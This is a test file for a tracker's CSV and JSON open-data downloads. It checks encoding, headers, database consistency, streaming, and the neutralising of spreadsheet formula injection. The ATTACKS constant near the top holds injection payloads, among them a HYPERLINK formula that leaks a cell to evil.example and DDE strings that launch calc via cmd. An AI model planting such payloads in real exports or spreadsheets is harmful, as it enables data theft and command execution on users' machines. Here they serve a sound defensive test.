// The /data downloads, parsed back with an independent CSV parser and compared with the
// database: RFC 4180 and Excel-friendly encoding, formula injection neutralised, the JSON
// snapshot valid against its published schema, and everything streamed in batches.
import { describe, it, expect, beforeAll } from "vitest";
import type pg from "pg";
import { parse } from "csv-parse/sync";
import { connect } from "../../src/runtime/connect";
import { todayIso } from "../../src/domain/dates";
import { createPrismaClient } from "../../src/server/db";
import { useTestDatabase } from "../helpers/test-database";
import { call, contractValidator, ORIGIN } from "../helpers/open-data-contract";
import { useAppEnv } from "../../src/runtime/env";

const database = useTestDatabase();
let client: pg.Client;
type Route = { GET: (request: Request) => Promise<Response> };
let routes: { commitments: Route; statusUpdates: Route; deadlineRevisions: Route; tracker: Route };

/** Text that a spreadsheet would run as a formula if it were not neutralised. */
const ATTACKS = {
  note: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  title: "@SUM(1+1)*cmd|' /C calc'!A0",
  sourceTitle: "-2+3+cmd|' /C calc'!A0",
  publisher: "+44 20 7946 0000",
  reason: "\t=1+1 hidden behind a tab",
};
const TRICKY_NOTE = 'Confirmed by the minister: “on track”, said the “Département”, with a comma, a "quote"\r\nand a second line.';

const today = todayIso();

beforeAll(async () => {
  const { url } = await database.get();
  useAppEnv({ DATABASE_URL: url }); // before the first getDb()
  client = await connect(url);
  const id = async (sql: string, params: unknown[] = []) => (await client.query(sql, params)).rows[0].id as number;
  const aiEducation = await id(`SELECT id FROM commitment WHERE slug = 'ai-in-education'`);
  const extract = await id(`SELECT id FROM commitment WHERE slug = 'humphrey-extract-for-councils'`);
  const source = await id(
    `INSERT INTO source (url, publisher, title, published_on) VALUES ('https://example.org/minutes', $1, $2, '2026-06-10') RETURNING id`,
    [ATTACKS.publisher, ATTACKS.sourceTitle],
  );
  await client.query(`UPDATE commitment SET title = $1 WHERE id = $2`, [ATTACKS.title, aiEducation]);
  await client.query(
    `INSERT INTO status_update (commitment_id, status, note, source_id, confirmed_on) VALUES ($1, 'at_risk', $2, $3, '2026-06-10')`,
    [aiEducation, ATTACKS.note, source],
  );
  await client.query(
    `INSERT INTO status_update (commitment_id, status, note, source_id, confirmed_on) VALUES ($1, 'in_progress', $2, $3, '2026-06-12')`,
    [extract, TRICKY_NOTE, source],
  );
  await client.query(
    `INSERT INTO deadline_revision (commitment_id, label, precision, due_date, reason, source_id, effective_on) VALUES ($1, 'by the end of 2030', 'year', '2030-12-31', $2, $3, '2026-06-15')`,
    [extract, ATTACKS.reason, source],
  );
  await client.query(
    `INSERT INTO deadline_revision (commitment_id, label, precision, due_date, reason, source_id, effective_on) VALUES ($1, 'summer 2030', 'season', '2030-08-31', 'Brought forward after the spending review.', $2, '2026-06-20')`,
    [extract, source],
  );
  routes = {
    commitments: await import("../../src/app/data/commitments.csv/route"),
    statusUpdates: await import("../../src/app/data/status-updates.csv/route"),
    deadlineRevisions: await import("../../src/app/data/deadline-revisions.csv/route"),
    tracker: await import("../../src/app/data/tracker.json/route"),
  };
  return async () => {
    await client.end();
    const { getDb } = await import("../../src/server/db");
    await getDb().$disconnect();
  };
});

async function download(route: Route, path: string, headers?: Record<string, string>) {
  const response = await call(route.GET, path, { headers });
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { response, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}

async function csv(route: Route, path: string) {
  const { response, bytes, text } = await download(route, path);
  expect(response.status, path).toBe(200);
  const records = parse(text, { bom: true, columns: true, relax_quotes: false, relax_column_count: false }) as Record<string, string>[];
  const header = (parse(text, { bom: true, to_line: 1 }) as string[][])[0]!;
  return { response, bytes, text, records, header };
}

const iso = (d: Date | null) => (d ? d.toISOString().slice(0, 10) : "");

describe("CSV files", () => {
  it("are RFC 4180 with CRLF line ends, UTF-8 with a byte-order mark for Excel, and download as attachments", async () => {
    for (const [route, path] of [
      [routes.commitments, "/data/commitments.csv"],
      [routes.statusUpdates, "/data/status-updates.csv"],
      [routes.deadlineRevisions, "/data/deadline-revisions.csv"],
    ] as const) {
      const { response, bytes, text } = await csv(route, path);
      expect([...bytes.slice(0, 3)], `${path} starts with the UTF-8 BOM`).toEqual([0xef, 0xbb, 0xbf]);
      expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
      expect(response.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="roadmap-tracker-[a-z-]+-${today}\\.csv"$`));
      expect(response.headers.get("etag")).toMatch(/^W\/"/);
      expect(response.headers.get("cache-control")).toMatch(/^public/);
      expect(response.headers.get("access-control-allow-origin")).toBe("*");
      expect(text.endsWith("\r\n")).toBe(true);
      // Outside quoted fields every line ends with CRLF (a bare LF appears only inside quotes).
      const unquoted = text.replace(/"(?:[^"]|"")*"/g, "");
      expect(unquoted).not.toMatch(/[^\r]\n/);
    }
  });

  it("keeps accents, curly quotes, commas, double quotes and line breaks intact", async () => {
    const { records } = await csv(routes.statusUpdates, "/data/status-updates.csv");
    expect(records.map((r) => r.note)).toContain(TRICKY_NOTE);
  });

  it("neutralise every cell that a spreadsheet would read as a formula", async () => {
    const statusUpdates = await csv(routes.statusUpdates, "/data/status-updates.csv");
    const injected = statusUpdates.records.find((r) => r.note?.includes("HYPERLINK"))!;
    expect(injected.note).toBe(`'${ATTACKS.note}`);
    expect(injected.commitment_title).toBe(`'${ATTACKS.title}`);
    expect(injected.source_title).toBe(`'${ATTACKS.sourceTitle}`);
    expect(injected.source_publisher).toBe(`'${ATTACKS.publisher}`);

    const commitments = await csv(routes.commitments, "/data/commitments.csv");
    expect(commitments.records.find((r) => r.slug === "ai-in-education")!.title).toBe(`'${ATTACKS.title}`);

    const revisions = await csv(routes.deadlineRevisions, "/data/deadline-revisions.csv");
    expect(revisions.records.find((r) => r.label === "by the end of 2030")!.reason).toBe(`'${ATTACKS.reason}`);
    // Numbers are left alone: a deadline brought forward has a negative slip.
    expect(revisions.records.find((r) => r.label === "summer 2030")!.slip_days).toBe("-122");

    for (const { records } of [statusUpdates, commitments, revisions]) {
      for (const record of records) {
        for (const [column, cell] of Object.entries(record)) {
          const dangerous = /^[=+@\t\r\n]/.test(cell) || (/^-/.test(cell) && !/^-\d+$/.test(cell));
          expect(dangerous, `${column} = ${JSON.stringify(cell)}`).toBe(false);
        }
      }
    }
  });

  it("commitments.csv has one row per commitment, as the database computes it", async () => {
    const { records } = await csv(routes.commitments, "/data/commitments.csv");
    const { rows } = await client.query(
      `SELECT c.slug, c.title, a.slug AS area, o.slug AS lead, s.* FROM commitment_state_as_of($1::date) s
       JOIN commitment c ON c.id = s.commitment_id JOIN area a ON a.id = c.area_id LEFT JOIN organisation o ON o.id = c.lead_organisation_id ORDER BY a.position, c.slug`,
      [today],
    );
    expect(records.map((r) => r.slug)).toEqual(rows.map((r) => r.slug));
    const neutral = (s: string) => (/^[=+\-@\t\r\n]/.test(s) ? `'${s}` : s);
    for (const [i, row] of rows.entries()) {
      const r = records[i]!;
      expect(r).toMatchObject({
        title: neutral(row.title),
        area_slug: row.area,
        lead_owner_slug: row.lead ?? "",
        lead_named: String(row.lead !== null),
        status_code: row.status_update_id === null ? "no_progress_reported" : row.status,
        status_reported: String(row.status_update_id !== null),
        status_confirmed_on: iso(row.status_confirmed_on),
        deadline_label: row.deadline_label,
        deadline_precision: row.deadline_precision,
        due_date: iso(row.due_date),
        overdue: String(row.overdue),
        days_overdue: String(row.days_overdue),
        days_until_due: row.days_until_due === null ? "" : String(row.days_until_due),
        revisions_count: String(row.revisions_count),
        url: `${ORIGIN}/commitments/${row.slug}`,
      });
    }
    const extract = records.find((r) => r.slug === "humphrey-extract-for-councils")!;
    expect(extract).toMatchObject({ deadline_label: "summer 2030", due_date: "2030-08-31", revisions_count: "2", status_code: "at_risk" });
  });

  it("status-updates.csv has every published update with its source", async () => {
    const { records } = await csv(routes.statusUpdates, "/data/status-updates.csv");
    const { rows } = await client.query(
      `SELECT u.id, c.slug, u.status, u.confirmed_on, s.url FROM status_update u JOIN commitment c ON c.id = u.commitment_id JOIN source s ON s.id = u.source_id ORDER BY u.id`,
    );
    expect(records.map((r) => [r.id, r.commitment_slug, r.status_code, r.confirmed_on, r.source_url])).toEqual(
      rows.map((r) => [`status-update-${r.id}`, r.slug, r.status, iso(r.confirmed_on), r.url]),
    );
  });

  it("deadline-revisions.csv has every original deadline and revision, with what it replaced", async () => {
    const { records } = await csv(routes.deadlineRevisions, "/data/deadline-revisions.csv");
    const { rows } = await client.query(
      `SELECT d.id, c.slug, d.label, d.due_date FROM deadline_revision d JOIN commitment c ON c.id = d.commitment_id ORDER BY d.id`,
    );
    expect(records.map((r) => [r.id, r.commitment_slug, r.label, r.due_date])).toEqual(
      rows.map((r) => [`deadline-revision-${r.id}`, r.slug, r.label, iso(r.due_date)]),
    );
    const moved = records.find((r) => r.label === "by the end of 2030")!;
    expect(moved).toMatchObject({
      original: "false",
      previous_label: "from May onwards",
      previous_due_date: "2026-05-31",
      slip_days: "1675",
      effective_on: "2026-06-15",
    });
    expect(records.filter((r) => r.commitment_slug === "humphrey-extract-for-councils").map((r) => r.original)).toEqual(["true", "false", "false"]);
  });

  it("keep every column they had, in order, and add the new ones at the end", async () => {
    // The columns before issue 11: a contract, so they may never be removed, renamed or moved.
    const before = {
      commitments:
        "slug title summary area_slug area_title lead_owner_slug lead_owner_name supporting_owner_slugs supporting_owner_names deadline_label deadline_precision due_date status_code status_label status_confirmed_on overdue days_overdue days_until_due delivered_late days_late revisions_count announced_on url",
      statusUpdates:
        "id commitment_slug commitment_title area_slug status_code status_label confirmed_on note source_title source_publisher source_url source_published_on published_at commitment_url",
      deadlineRevisions:
        "id commitment_slug commitment_title area_slug original effective_on label precision due_date previous_label previous_due_date slip_days reason source_title source_publisher source_url source_published_on published_at commitment_url",
    };
    for (const [kind, columns] of Object.entries(before)) {
      const { header } = await csv(
        routes[kind as keyof typeof before],
        `/data/${kind === "statusUpdates" ? "status-updates" : kind === "deadlineRevisions" ? "deadline-revisions" : "commitments"}.csv`,
      );
      expect(header.slice(0, columns.split(" ").length), kind).toEqual(columns.split(" "));
    }
    const { header: commitmentColumns, records } = await csv(routes.commitments, "/data/commitments.csv");
    expect(commitmentColumns).toEqual(
      expect.arrayContaining([
        "status_confirmed_label",
        "status_occurred_label",
        "status_effective_on",
        "lateness",
        "missed",
        "missed_deadlines",
        "record_version",
      ]),
    );
    const sourcing = records.find((r) => r.slug === "digital-sourcing-strategy")!;
    expect(sourcing).toMatchObject({ missed: "true", missed_deadlines_count: "1", status_confirmed_label: "June 2026", status_occurred_label: "" });
    expect(sourcing.missed_deadlines).toMatch(/^Missed its deadline of “in March” by \d+ days, and is still overdue$/);
    // Issue 12, appended: a lead no source names is said to be not named; the owners' bases; no progress reported.
    expect(sourcing).toMatchObject({
      lead_owner_slug: "",
      lead_named: "false",
      lead_statement: "Lead organisation not named in published sources",
      status_reported: "true",
      area_stated: "true",
      announced_label: "January 2026",
    });
    expect(sourcing.owner_bases).toMatch(/^digital-commercial-centre-of-excellence: .+, paragraph 40$/);
    const joint = records.find((r) => r.slug === "assurance-for-all-spending-controls")!;
    expect(joint).toMatchObject({ lead_named: "false", joint_owner_slugs: "government-digital-service; hm-treasury", supporting_owner_slugs: "" });
    expect(joint.lead_statement).toBe("Named jointly: Government Digital Service and HM Treasury");
    const pilot = records.find((r) => r.slug === "gov-uk-app-local-services-pilot")!;
    expect(pilot).toMatchObject({
      status_occurred_label: "in March",
      status_occurred_from: "2026-03-01",
      status_occurred_to: "2026-03-31",
      status_effective_on: "2026-03-31",
    });
    const { records: updates } = await csv(routes.statusUpdates, "/data/status-updates.csv");
    const version = (await client.query(`SELECT latest_publication() AS v`)).rows[0].v;
    expect(updates.every((u) => Number(u.version) >= 1 && Number(u.version) <= version && u.confirmed_label !== "")).toBe(true);
  });

  it("show the tracker as of a past date", async () => {
    const { records } = await csv(routes.commitments, "/data/commitments.csv?as_of=2026-05-31");
    expect(records.find((r) => r.slug === "hmrc-paye-online-service")!.status_code).toBe("no_progress_reported");
    const { records: updates } = await csv(routes.statusUpdates, "/data/status-updates.csv?as_of=2026-06-01");
    expect(updates.every((u) => u.confirmed_on! <= "2026-06-01")).toBe(true);
    expect(updates.some((u) => u.note!.includes("HYPERLINK"))).toBe(false);
  });

  it("answer bad parameters with a 400 problem", async () => {
    for (const path of ["/data/commitments.csv?as_of=2031-01-01", "/data/tracker.json?format=xml"]) {
      const route = path.includes("tracker") ? routes.tracker : routes.commitments;
      const response = await call(route.GET, path);
      expect(response.status, path).toBe(400);
      expect(response.headers.get("content-type")).toBe("application/problem+json");
      expect((await response.json()).errors).toHaveLength(1);
    }
  });

  it("answer a conditional GET with 304 until the data changes", async () => {
    const first = await call(routes.commitments.GET, "/data/commitments.csv");
    const etag = first.headers.get("etag")!;
    await first.body?.cancel();
    const again = await call(routes.commitments.GET, "/data/commitments.csv", { headers: { "If-None-Match": etag } });
    expect(again.status).toBe(304);
    expect(again.body).toBeNull();
    const otherDay = await call(routes.commitments.GET, "/data/commitments.csv?as_of=2026-06-01", { headers: { "If-None-Match": etag } });
    expect(otherDay.status).toBe(200);
    await otherDay.body?.cancel();
  });
});

describe("tracker.json", () => {
  it("is the whole tracker, stamped with its as-of time, valid against the published TrackerSnapshot schema", async () => {
    const { openApiDocument } = await import("../../src/server/open-data/openapi");
    const before = Date.now();
    const { response, text } = await download(routes.tracker, "/data/tracker.json");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/json");
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="roadmap-tracker-${today}.json"`);
    const snapshot = JSON.parse(text);
    expect(contractValidator(openApiDocument()).component("TrackerSnapshot")(snapshot)).toEqual([]);

    expect(snapshot.meta.asOf).toBe(today);
    expect(Date.parse(snapshot.meta.generatedAt)).toBeGreaterThanOrEqual(before - 1000);
    expect(snapshot.meta.licence.name).toBe("Open Government Licence v3.0");
    expect(snapshot.meta.citation).toContain(`${ORIGIN}/data/tracker.json?as_of=${today}`);

    const count = async (sql: string) => (await client.query(sql)).rows[0].n as number;
    expect(snapshot.areas).toHaveLength(await count(`SELECT COUNT(*)::int AS n FROM area`));
    expect(snapshot.organisations).toHaveLength(await count(`SELECT COUNT(*)::int AS n FROM organisation`));
    expect(snapshot.commitments).toHaveLength(await count(`SELECT COUNT(*)::int AS n FROM commitment`));
    expect(snapshot.statusUpdates).toHaveLength(await count(`SELECT COUNT(*)::int AS n FROM status_update`));
    expect(snapshot.deadlineRevisions).toHaveLength(await count(`SELECT COUNT(*)::int AS n FROM deadline_revision`));
    const injected = snapshot.statusUpdates.find((u: { note: string }) => u.note === ATTACKS.note);
    expect(injected.commitment.slug).toBe("ai-in-education"); // JSON carries text exactly as published
  });

  it("as of a past date leaves out what happened later", async () => {
    const { text } = await download(routes.tracker, "/data/tracker.json?as_of=2026-06-11");
    const snapshot = JSON.parse(text);
    expect(snapshot.meta.asOf).toBe("2026-06-11");
    expect(snapshot.statusUpdates.every((u: { date: string }) => u.date <= "2026-06-11")).toBe(true);
    expect(snapshot.deadlineRevisions.some((d: { label: string }) => d.label === "by the end of 2030")).toBe(false);
    expect(snapshot.commitments.find((c: { slug: string }) => c.slug === "ai-in-education").status.code).toBe("at_risk");
  });
});

describe("streaming", () => {
  it("pages through the database in batches, lazily", async () => {
    const { url } = await database.get();
    const db = createPrismaClient(url);
    const { streamCommitments, streamStatusUpdates, streamDeadlineRevisions } = await import("../../src/server/queries/open-data");
    const { listCommitments } = await import("../../src/server/queries/commitments");
    try {
      let queries = 0;
      const counting = new Proxy(db, {
        get(target, prop, receiver) {
          if (prop === "$queryRaw") return (...args: unknown[]) => ((queries += 1), (target.$queryRaw as (...a: unknown[]) => unknown)(...args));
          return Reflect.get(target, prop, receiver);
        },
      });
      const version = (await client.query(`SELECT latest_publication() AS v`)).rows[0].v as number;
      // Reading three commitments of a batch of five costs two queries (which rows make the batch,
      // then those rows whole, with their status updates and owners), and a batch of twenty no more.
      const read = async (batchSize: number, take: number) => {
        queries = 0;
        const first: string[] = [];
        for await (const c of streamCommitments(counting, today, version, batchSize)) {
          first.push(c.slug);
          if (first.length === take) break;
        }
        expect(first).toHaveLength(take);
        return queries;
      };
      expect(await read(5, 3)).toBe(2);
      expect(await read(20, 15)).toBe(2);

      // Small batches give exactly the same rows as one big query.
      const streamed: string[] = [];
      for await (const c of streamCommitments(db, today, version, 7)) streamed.push(c.slug);
      const all = await listCommitments(db, { asOf: today }, "all");
      expect(streamed.sort()).toEqual(all.items.map((c) => c.slug).sort());
      expect(new Set(streamed).size).toBe(streamed.length);

      const scope = { asOf: today, version };
      const updates: number[] = [];
      for await (const u of streamStatusUpdates(db, scope, 4)) updates.push(u.id);
      const revisions: number[] = [];
      for await (const d of streamDeadlineRevisions(db, scope, 9)) revisions.push(d.id);
      expect(updates).toEqual((await client.query(`SELECT id FROM status_update ORDER BY id`)).rows.map((r) => r.id));
      expect(revisions).toEqual((await client.query(`SELECT id FROM deadline_revision ORDER BY id`)).rows.map((r) => r.id));
    } finally {
      await db.$disconnect();
    }
  });

  it("stops reading when the client goes away", async () => {
    const { csvStream } = await import("../../src/server/open-data/csv");
    let produced = 0;
    let closed = false;
    async function* endless() {
      try {
        for (;;) {
          produced += 1;
          yield { n: produced };
        }
      } finally {
        closed = true;
      }
    }
    const stream = csvStream(endless(), [{ header: "n", description: "", value: (r: { n: number }) => r.n }]);
    const reader = stream.getReader();
    const { value } = await reader.read();
    expect(new TextDecoder().decode(value)).toContain("n");
    await reader.cancel();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(closed).toBe(true);
    expect(produced).toBeLessThan(100_000);
  });
});
